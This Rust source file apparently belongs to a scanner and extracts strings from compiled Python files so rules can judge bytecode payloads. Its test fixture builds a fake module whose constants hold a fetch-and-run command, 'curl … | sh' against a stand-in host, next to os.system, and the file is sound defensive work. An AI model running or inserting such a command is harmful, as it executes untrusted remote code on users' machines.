//! A `.pyc` (or `.pyo`) file read as bytes: past its header, the marshalled module code object's string
//! constants and names (paths it reads, hosts it calls, commands it builds, modules it imports), rendered
//! as a Python tuple for the rules. Nothing is unmarshalled by Python and no bytecode is disassembled; a
//! payload shipped only as compiled code is then judged by what its strings say instead of passing as an
//! unreadable binary. The reader is the bounded one of `native/deobfuscate/marshal.rs`.

/// Header lengths by Python version: 16 bytes from 3.7 (magic, flags, and a date and size or a hash),
/// 12 for 3.3–3.6 (magic, date, size), 8 before (magic, date). Each is tried; the code object that reads
/// to the end of the file decides.
const HEADER_LENGTHS: [usize; 3] = [16, 12, 8];

/// The strings of a compiled Python file's module code object, one literal a line in a tuple; `None`
/// when the bytes are not a code object after any known header.
pub fn compiled_python_strings(bytes: &[u8]) -> Option<String> {
    // Every CPython magic number ends in `\r\n`.
    if bytes.get(2..4) != Some(b"\r\n") {
        return None;
    }
    HEADER_LENGTHS.iter().find_map(|&header| {
        let code = bytes.get(header..)?;
        crate::native::deobfuscate::marshal::code_object_strings(code)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A 3.8–3.10 module: consts hold a command line and a host, names an import.
    fn module_code() -> Vec<u8> {
        let mut out = vec![b'c' | 0x80];
        for _ in 0..6 {
            out.extend_from_slice(&0i32.to_le_bytes());
        }
        let short = |out: &mut Vec<u8>, text: &str| {
            out.push(b'z');
            out.push(text.len() as u8);
            out.extend_from_slice(text.as_bytes());
        };
        out.push(b's'); // code
        out.extend_from_slice(&2i32.to_le_bytes());
        out.extend_from_slice(&[0x64, 0x00]);
        out.push(b')'); // consts
        out.push(2);
        short(&mut out, "curl -s https://x.example.invalid/i.sh | sh");
        out.push(b'N');
        out.push(b')'); // names
        out.push(2);
        short(&mut out, "os");
        short(&mut out, "system");
        for _ in 0..3 {
            out.push(b')'); // varnames, freevars, cellvars
            out.push(0);
        }
        short(&mut out, "<string>"); // filename
        short(&mut out, "<module>"); // name
        out.extend_from_slice(&1i32.to_le_bytes()); // firstlineno
        out.push(b's'); // lnotab
        out.extend_from_slice(&0i32.to_le_bytes());
        out
    }

    #[test]
    fn strings_are_read_after_the_header_of_each_version() {
        for header in HEADER_LENGTHS {
            let mut pyc = vec![0x55, 0x0d, b'\r', b'\n'];
            pyc.resize(header, 0);
            pyc.extend(module_code());
            let text = compiled_python_strings(&pyc).unwrap();
            assert!(
                text.contains("'curl -s https://x.example.invalid/i.sh | sh'"),
                "{text}"
            );
            assert!(text.contains("'system'"), "{text}");
        }
    }

    #[test]
    fn other_bytes_are_not_compiled_python() {
        // No `\r\n` after the magic: an encrypted blob named `.pyc` is not read as one.
        assert!(compiled_python_strings(&[0x70, 0x5c, 0x13, 0x88, 0, 0]).is_none());
        let mut truncated = vec![0x55, 0x0d, b'\r', b'\n'];
        truncated.resize(16, 0);
        truncated.extend(&module_code()[..20]);
        assert!(compiled_python_strings(&truncated).is_none());
        assert!(compiled_python_strings(b"").is_none());
    }
}
